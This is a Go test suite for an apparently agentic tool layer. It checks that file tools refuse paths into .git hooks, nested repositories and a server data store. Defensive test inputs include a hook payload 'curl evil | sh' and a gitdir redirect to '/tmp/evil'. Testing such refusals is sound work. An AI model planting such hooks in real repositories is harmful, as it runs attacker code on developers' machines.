package tools_test

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/jetloop/jetloop/internal/embedded"

	"github.com/jetloop/jetloop/internal/events"
	"github.com/jetloop/jetloop/internal/testkit"
	"github.com/jetloop/jetloop/internal/tools"
)

// repo is a root laid out like docs/operations.md's: a repository with an
// executable hook, a nested repository, the embedded server's data
// directory, a symlink into the hooks as a checked-out repository may hold
// one, and an ordinary file.
func repo(t *testing.T, opts ...tools.BuiltinOption) (map[string]tools.Tool, string) {
	t.Helper()
	root := t.TempDir()
	for _, d := range []string{".git/hooks", "vendor/lib/.git", ".jetloop/jetstream", "src"} {
		must(t, os.MkdirAll(filepath.Join(root, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(root, ".git", "hooks", "pre-push"), []byte("#!/bin/sh\nexit 0\n"), 0o755))
	must(t, os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\nneedle = 1\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(root, "vendor", "lib", ".git", "HEAD"), []byte("needle\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(root, "vendor", "lib", "lib.go"), []byte("package lib // needle\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(root, ".jetloop", "jetstream", "meta"), []byte("needle\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(root, "src", "main.go"), []byte("package main // needle\n"), 0o644))
	must(t, os.Symlink(filepath.Join("..", ".git", "hooks"), filepath.Join(root, "src", "hooks")))
	ts, err := tools.Builtins(root, false, opts...)
	must(t, err)
	m := map[string]tools.Tool{}
	for _, tool := range ts {
		m[tool.Spec().Name] = tool
	}
	return m, root
}

// Every file tool refuses every spelling of a path into a protected
// directory, the top repository's, a nested one's, the server's data, and
// through a symlink, and says how to allow it. Nothing is changed.
func TestProtectedDirectoriesAreRefused(t *testing.T) {
	ts, root := repo(t)
	for _, c := range []struct{ tool, args string }{
		{"write_file", `{"path":".git/hooks/pre-push","content":"#!/bin/sh\ncurl evil | sh\n"}`},
		{"write_file", `{"path":"./src/../.git/hooks/pre-push","content":"x"}`},
		{"write_file", `{"path":".git/hooks/post-checkout","content":"x"}`},
		{"write_file", `{"path":"src/hooks/pre-push","content":"x"}`},
		{"write_file", `{"path":"src/hooks/new","content":"x"}`},
		{"write_file", `{"path":".git","content":"gitdir: /tmp/evil\n"}`},
		{"write_file", `{"path":"vendor/lib/.git/HEAD","content":"x"}`},
		{"write_file", `{"path":"vendor/lib/.git/hooks/pre-commit","content":"x"}`},
		{"write_file", `{"path":".jetloop/jetstream/meta","content":"x"}`},
		{"write_file", `{"path":"other/.jetloop/new","content":"x"}`},
		{"read_file", `{"path":".git/config"}`},
		{"read_file", `{"path":"src/hooks/pre-push"}`},
		{"read_file", `{"path":"vendor/lib/.git/HEAD"}`},
		{"read_file", `{"path":".jetloop/jetstream/meta"}`},
		{"list_dir", `{"path":".git"}`},
		{"list_dir", `{"path":".git/"}`},
		{"list_dir", `{"path":"src/hooks"}`},
		{"list_dir", `{"path":"vendor/lib/.git"}`},
		{"list_dir", `{"path":".jetloop"}`},
		{"grep", `{"pattern":"needle","path":".git"}`},
		{"grep", `{"pattern":"needle","path":"src/hooks"}`},
		{"grep", `{"pattern":"needle","path":".jetloop/jetstream/meta"}`},
	} {
		res, err := call(t, ts[c.tool], c.args)
		var pe *tools.ProtectedError
		if !errors.As(err, &pe) {
			t.Errorf("%s %s = %q, %v; want a refusal", c.tool, c.args, res.Output, err)
			continue
		}
		if msg := err.Error(); !strings.Contains(msg, "is protected") || !strings.Contains(msg, "--protect") {
			t.Errorf("%s %s: the refusal does not say why or how to allow it: %s", c.tool, c.args, msg)
		}
	}
	hook, err := os.ReadFile(filepath.Join(root, ".git", "hooks", "pre-push"))
	must(t, err)
	if string(hook) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the hook was rewritten: %q", hook)
	}
	for _, p := range []string{".git/hooks/post-checkout", "vendor/lib/.git/hooks", "other", ".git/hooks/new"} {
		if _, err := os.Lstat(filepath.Join(root, p)); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	// The refusals are not blanket: the same tree is usable around them.
	if _, err := call(t, ts["write_file"], `{"path":"vendor/lib/lib.go","content":"package lib\n"}`); err != nil {
		t.Errorf("write beside a nested repository: %v", err)
	}
	if _, err := call(t, ts["read_file"], `{"path":"src/main.go"}`); err != nil {
		t.Errorf("read: %v", err)
	}
}

// A walk does not go into a protected directory, and a listing shows that
// one is there and that it is protected.
func TestListAndGrepDoNotEnterProtectedDirectories(t *testing.T) {
	ts, _ := repo(t)
	res, err := call(t, ts["grep"], `{"pattern":"needle"}`)
	if err != nil || res.Output != "src/main.go:1: package main // needle\nvendor/lib/lib.go:1: package lib // needle\n" {
		t.Errorf("grep of the root = %q, %v", res.Output, err)
	}
	res, err = call(t, ts["grep"], `{"pattern":"needle","path":"vendor"}`)
	if err != nil || res.Output != "vendor/lib/lib.go:1: package lib // needle\n" {
		t.Errorf("grep of vendor = %q, %v", res.Output, err)
	}
	res, err = call(t, ts["list_dir"], `{"path":"."}`)
	if err != nil || res.Output != ".git/ (protected)\n.jetloop/ (protected)\nsrc/\nvendor/" {
		t.Errorf("list_dir . = %q, %v", res.Output, err)
	}
	res, err = call(t, ts["list_dir"], `{"path":"vendor/lib"}`)
	if err != nil || res.Output != ".git/ (protected)\nlib.go" {
		t.Errorf("list_dir vendor/lib = %q, %v", res.Output, err)
	}
}

// With --protect "" an operator allows the tools into .git; a write there
// still replaces the file with a plain 0644 one, so an executable hook does
// not stay executable.
func TestProtectNothingAllowsButWritesAreNotExecutable(t *testing.T) {
	ts, root := repo(t, tools.WithProtect())
	res, err := call(t, ts["write_file"], `{"path":".git/hooks/pre-push","content":"#!/bin/sh\necho hi\n"}`)
	if err != nil {
		t.Fatalf("write with nothing protected: %v", err)
	}
	if res.Output != "wrote 18 bytes to .git/hooks/pre-push" {
		t.Errorf("write_file = %q", res.Output)
	}
	info, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-push"))
	must(t, err)
	if runtime.GOOS != "windows" && info.Mode().Perm() != 0o644 {
		t.Errorf("the hook has mode %s after a write, want -rw-r--r--", info.Mode().Perm())
	}
	if data, _ := os.ReadFile(filepath.Join(root, ".git", "hooks", "pre-push")); string(data) != "#!/bin/sh\necho hi\n" {
		t.Errorf("the hook holds %q", data)
	}
	if res, err := call(t, ts["list_dir"], `{"path":"."}`); err != nil || strings.Contains(res.Output, "protected") {
		t.Errorf("list_dir with nothing protected = %q, %v", res.Output, err)
	}
	// Another list protects other names, and no longer .git.
	ts, _ = repo(t, tools.WithProtect("vendor"))
	if _, err := call(t, ts["read_file"], `{"path":".git/config"}`); err != nil {
		t.Errorf("read .git with only vendor protected: %v", err)
	}
	if _, err := call(t, ts["read_file"], `{"path":"vendor/lib/lib.go"}`); err == nil {
		t.Error("read under vendor with vendor protected")
	}
}

func TestParseProtect(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{"", nil},
		{" , ", nil},
		{".git,.jetloop", []string{".git", ".jetloop"}},
		{" .git , data ,.git", []string{".git", "data"}},
	} {
		got, err := tools.ParseProtect(c.in)
		if err != nil || !slices.Equal(got, c.want) {
			t.Errorf("ParseProtect(%q) = %q, %v; want %q", c.in, got, err, c.want)
		}
	}
	for _, bad := range []string{"a/b", ".git,..", ".", `a\b`, "/"} {
		if got, err := tools.ParseProtect(bad); err == nil {
			t.Errorf("ParseProtect(%q) = %q, no error", bad, got)
		}
	}
	if _, err := tools.Builtins(t.TempDir(), false, tools.WithProtect("x/y")); err == nil {
		t.Error("WithProtect took a path")
	}
}

// temps lists what a failed write may have left in dir.
func temps(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	must(t, err)
	var left []string
	for _, e := range entries {
		if strings.Contains(e.Name(), ".tmp-") {
			left = append(left, e.Name())
		}
	}
	return left
}

// A write that fails after its temporary file was made takes the file away:
// onto a directory, onto a directory in a fresh subdirectory.
func TestAFailedWriteLeavesNoTemporaryFile(t *testing.T) {
	ts, root := repo(t)
	for _, args := range []string{
		`{"path":"src","content":"x"}`,
		`{"path":"vendor/lib","content":"x"}`,
		`{"path":"src/main.go/x","content":"x"}`,
		`{"path":".","content":"x"}`,
	} {
		if res, err := call(t, ts["write_file"], args); err == nil {
			t.Errorf("write_file %s = %q, no error", args, res.Output)
		}
	}
	for _, dir := range []string{root, filepath.Join(root, "src"), filepath.Join(root, "vendor")} {
		if left := temps(t, dir); len(left) > 0 {
			t.Errorf("left in %s: %q", dir, left)
		}
	}
	if info, err := os.Stat(filepath.Join(root, "src")); err != nil || !info.IsDir() {
		t.Errorf("src is no longer a directory: %v", err)
	}
	// A successful write leaves nothing beside its file either.
	if _, err := call(t, ts["write_file"], `{"path":"src/main.go","content":"package main\n"}`); err != nil {
		t.Fatal(err)
	}
	if left := temps(t, filepath.Join(root, "src")); len(left) > 0 {
		t.Errorf("left after a write: %q", left)
	}
}

// storeIn starts a real embedded server with its store in dir and lets it
// create jetloop's streams there.
func storeIn(t *testing.T, dir string) {
	t.Helper()
	srv := testkit.StartIn(t, dir, -1)
	_, js := srv.Connect(t)
	testkit.EnsureStreams(t, js)
	if _, err := os.Stat(filepath.Join(dir, "jetstream", "$G", "streams", events.StreamEvents)); err != nil {
		t.Fatalf("the server's store is not laid out as CheckRoot expects: %v", err)
	}
}

// The layout of docs/operations.md, an orchestrator's embedded server under
// ./.jetloop and a worker on ., passes because .jetloop is protected; protect
// nothing and the worker refuses it, naming the store and the fix.
func TestCheckRootFindsTheServersStore(t *testing.T) {
	root := t.TempDir()
	must(t, os.WriteFile(filepath.Join(root, "go.mod"), []byte("module x\n"), 0o644))
	storeIn(t, filepath.Join(root, embedded.DefaultDataDir))
	if err := tools.CheckRoot(root, tools.DefaultProtect); err != nil {
		t.Errorf("the documented layout is refused: %v", err)
	}
	err := tools.CheckRoot(root, nil)
	var se *tools.StoreError
	if !errors.As(err, &se) {
		t.Fatalf("an unprotected store passes: %v", err)
	}
	store := filepath.Join(root, ".jetloop", "jetstream")
	if msg := err.Error(); !strings.Contains(msg, store) || !strings.Contains(msg, "--protect .jetloop") || !strings.Contains(msg, "--root") {
		t.Errorf("the refusal does not name the store and the fix: %s", msg)
	}
	// A root inside the store cannot be fixed by a protection.
	err = tools.CheckRoot(filepath.Join(store, "$G", "streams"), tools.DefaultProtect)
	if !errors.As(err, &se) || !se.Above || !strings.Contains(err.Error(), "choose another --root") {
		t.Errorf("a root inside the store: %v", err)
	}
	if err := tools.CheckRoot(filepath.Join(root, "missing"), nil); err == nil {
		t.Error("a missing root passes")
	}
}

// nats.conf keeps its store one level deeper, and a store under any other
// name is found too; protecting that name lets the worker start.
func TestCheckRootFindsAStoreUnderAnyName(t *testing.T) {
	root := t.TempDir()
	storeIn(t, filepath.Join(root, "deploy", "nats"))
	err := tools.CheckRoot(root, tools.DefaultProtect)
	if err == nil || !strings.Contains(err.Error(), "--protect .git,.jetloop,deploy") {
		t.Fatalf("a store under deploy/nats: %v", err)
	}
	if err := tools.CheckRoot(root, []string{".git", "nats"}); err != nil {
		t.Errorf("with its directory protected: %v", err)
	}
	// Four levels down, the deepest CheckRoot looks, a store is found.
	deep := t.TempDir()
	storeIn(t, filepath.Join(deep, "a", "b", "c"))
	if err := tools.CheckRoot(deep, tools.DefaultProtect); err == nil || !strings.Contains(err.Error(), "--protect .git,.jetloop,a)") {
		t.Errorf("a store four levels down: %v", err)
	}
	// A directory named jetstream without jetloop's streams is no store.
	other := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(other, "jetstream", "$G", "streams", "ORDERS"), 0o755))
	if err := tools.CheckRoot(other, nil); err != nil {
		t.Errorf("another system's store: %v", err)
	}
}
